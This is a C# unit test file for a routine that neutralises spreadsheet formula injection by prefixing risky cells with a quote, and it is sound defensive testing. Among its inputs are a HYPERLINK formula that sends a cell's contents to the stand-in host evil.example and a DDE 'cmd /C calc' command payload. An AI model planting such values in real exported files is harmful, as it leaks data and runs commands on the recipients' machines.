using RaQuan.Output;

namespace RaQuan.Tests.Output;

public sealed class SpreadsheetCellTests
{
    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")")]
    [InlineData("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1:A9)", "'@SUM(A1:A9)")]
    [InlineData("\t=1+1", "'\t=1+1")]
    [InlineData("\r=1+1", "'\r=1+1")]
    [InlineData("\n=1+1", "'\n=1+1")]
    [InlineData("+84 260 3862 410", "'+84 260 3862 410")]
    [InlineData("-", "'-")]
    [InlineData("--5", "'--5")]
    [InlineData("-,5", "'-,5")]
    public void A_cell_a_spreadsheet_would_run_as_a_formula_is_prefixed_with_a_quote(string cell, string expected) =>
        Assert.Equal(expected, SpreadsheetCell.Neutralize(cell));

    [Theory]
    [InlineData("Kế hoạch 66/KH-UBND")]
    [InlineData("")]
    [InlineData("2.192 tỷ đồng")]
    [InlineData("-12")]
    [InlineData("+3,5")]
    [InlineData("-1.234,5")]
    [InlineData("a=b")]
    [InlineData("Huyện A = B")]
    [InlineData(" Kon Tum")]
    public void Ordinary_text_and_signed_numbers_are_left_as_they_are(string cell) =>
        Assert.Equal(cell, SpreadsheetCell.Neutralize(cell));
}
